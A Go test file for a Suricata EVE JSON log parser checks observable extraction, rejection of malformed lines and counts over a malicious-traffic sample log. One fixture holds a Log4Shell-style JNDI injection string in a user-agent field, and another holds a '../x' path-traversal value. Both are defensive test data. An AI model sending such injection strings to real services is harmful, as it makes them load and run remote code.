package eve_test

import (
	"errors"
	"slices"
	"strings"
	"testing"

	"entente/observable"
	"entente/watch/event"
	"entente/watch/format/eve"
	"entente/watch/format/formattest"
)

func TestFormat(t *testing.T) { formattest.Run(t, eve.Format()) }

func FuzzParse(f *testing.F) {
	formattest.Fuzz(f, eve.Format(),
		`{"timestamp":"2021-06-06T15:57:37.272281+0200","event_type":"http","http":{"hostname":"2001:db8::1","url":"x:1","http_port":8080}}`)
}

func BenchmarkParse(b *testing.B) { formattest.Bench(b, eve.Format()) }

const head = `{"timestamp":"2026-11-03T08:00:00.000001+0000","event_type":"x",`

// observed parses a line that goes on after head and returns its observables.
func observed(t *testing.T, rest string) []string {
	t.Helper()
	var ev event.Event
	if err := eve.Format().New().Parse([]byte(head+rest), &ev); err != nil {
		t.Fatalf("%s: %v", rest, err)
	}
	var all []string
	for _, o := range ev.Observables {
		all = append(all, o.Field+" "+o.Value.String())
	}
	return all
}

func TestObservables(t *testing.T) {
	const md5 = "d41d8cd98f00b204e9800998ecf8427e"
	for rest, want := range map[string][]string{
		// ja3, hassh and the like are not files
		`"tls":{"ja3":{"hash":"` + md5 + `","string":"1,2"},"ja3s":{"hash":"` + md5 + `"}},"ssh":{"client":{"hassh":{"hash":"` + md5 + `"}}}}`: nil,
		`"email":{"body_md5":"` + md5 + `"},"hash":"` + md5 + `","md5":"` + md5 + `"}`:                                                         nil,
		`"fileinfo":{"md5":"` + strings.ToUpper(md5) + `"}}`:                                                                                   {"file.hash.md5 md5 " + md5},
		`"alert":{"fileinfo":{"md5":"` + md5 + `"}}}`:                                                                                          nil,
		`"dns":{"sshfp":{"fingerprint":"` + md5 + `"},"grouped":{"SSHFP":["x"]}}}`:                                                             nil,
		`"dns":{"answers":[{"rrname":"a.example","rrtype":"SSHFP","rdata":"` + md5 + `"}]}}`:                                                   {"dns.answers.name domain-name a.example"},
		// duplicate keys: every value counts
		`"src_ip":"192.0.2.1","src_ip":"192.0.2.2"}`: {"source.ip ipv4-addr 192.0.2.1", "source.ip ipv4-addr 192.0.2.2"},
		`"http":{"hostname":"a.example","hostname":"b.example","url":"/1","url":"/2"}}`: {
			"url.domain domain-name a.example", "url.domain domain-name b.example",
			"url.full url a.example/1", "url.full url b.example/1", "url.full url a.example/2", "url.full url b.example/2",
		},
		// hosts, ports and targets
		`"http":{"hostname":"[2001:db8::1]","http_port":8080,"url":"\/a"}}`: {"url.domain ipv6-addr 2001:db8::1", "url.full url [2001:db8::1]:8080/a"},
		`"http":{"hostname":"a.example:8080","http_port":8080,"url":"/"}}`:  {"url.domain domain-name a.example", "url.full url a.example:8080/"},
		`"http":{"http_method":"CONNECT","url":"a.example:443"}}`:           {"url.domain domain-name a.example"},
		`"http":{"hostname":"proxy.example","url":"http://a.example/x"}}`:   {"url.domain domain-name proxy.example", "url.original url a.example/x", "url.full url a.example/x"},
		`"http":{"hostname":"a.example","url":"*"}}`:                        {"url.domain domain-name a.example"},
		`"http":{"http_user_agent":"${jndi:ldap://192.0.2.9:1389/x}"}}`:     {"user_agent.original ipv4-addr 192.0.2.9"},
		// dns: tunnels, case, trailing dot, a later record type
		`"dns":{"rrname":"\u00ff\u0001=.T.Example.ORG."}}`:                    {"dns.question.name domain-name t.example.org"},
		`"dns":{"rrtype":"TXT","rdata":"see http://a.example/x, 192.0.2.1"}}`: {"dns.answers.data url a.example/x", "dns.answers.data ipv4-addr 192.0.2.1"},
		`"dns":{"grouped":{"SRV":[{"name":"s.example","port":1}]},"authorities":[{"rrname":"z.example","rrtype":"SOA","soa":{"mname":"ns.z.example","rname":"x.z.example"}}]}}`: {
			"dns.answers.data domain-name s.example", "dns.answers.name domain-name z.example", "dns.answers.data domain-name ns.z.example",
		},
		// addresses in paths that nobody knows
		`"newproto":{"peer":{"ip":"2001:0db8:0000:0000:0000:0000:0000:0001"},"text":"1.2.3","when":"12:30"}}`: {"suricata.newproto.peer.ip ipv6-addr 2001:db8::1"},
	} {
		if got := observed(t, rest); !slices.Equal(got, want) {
			t.Errorf("%s\n gave %q\n want %q", rest, got, want)
		}
	}
}

func TestUnparsed(t *testing.T) {
	deep := strings.Repeat(`{"a":`, 40) + "1" + strings.Repeat("}", 40)
	for _, line := range []string{
		"not json", "[]", "{}", `{"event_type":"dns"}`, `{"timestamp":"2026-11-03T08:00:00Z"}`,
		`{"timestamp":"yesterday","event_type":"dns"}`, `{"timestamp":"2026-11-03T08:00:00Z","event_type":"../x"}`,
		head + `"a":"` + "\xff" + `"}`, head + `"a":` + deep + `}`, head + `"a":1`, head + `"a":1}{}`,
	} {
		var ev event.Event
		if err := eve.Format().New().Parse([]byte(line), &ev); err == nil || errors.Is(err, event.ErrNoEvent) {
			t.Errorf("%.60q gave %v", line, err)
		}
	}
}

func TestRealLines(t *testing.T) {
	path := formattest.SharedData(t, "logs/suricata/test6-malicious.eve.json")
	datasets := map[string]int{}
	types := map[observable.Type]int{}
	counts := formattest.Read(t, eve.Format(), path, func(ev *event.Event) {
		datasets[ev.Dataset]++
		if ev.Get("source.ip") == "" || ev.Left > 0 {
			t.Errorf("no source, or cut: %s", formattest.Render(ev))
		}
		for _, o := range ev.Observables {
			types[o.Value.Type]++
		}
	})
	t.Logf("%+v, datasets %v, observables by type %v", counts, datasets, types)
	if counts.Lines != 5000 || counts.Events != 5000 {
		t.Errorf("%d lines gave %d events; unread %q", counts.Lines, counts.Events, counts.Unread)
	}
	if datasets["suricata.flow"] != 3512 || datasets["suricata.alert"] != 745 || datasets["suricata.dns"] != 680 || datasets["suricata.http"] != 56 {
		t.Errorf("datasets %v", datasets)
	}
	if types[observable.MD5] > 0 {
		t.Errorf("%d MD5 values, but the file has none outside ja3", types[observable.MD5])
	}
}
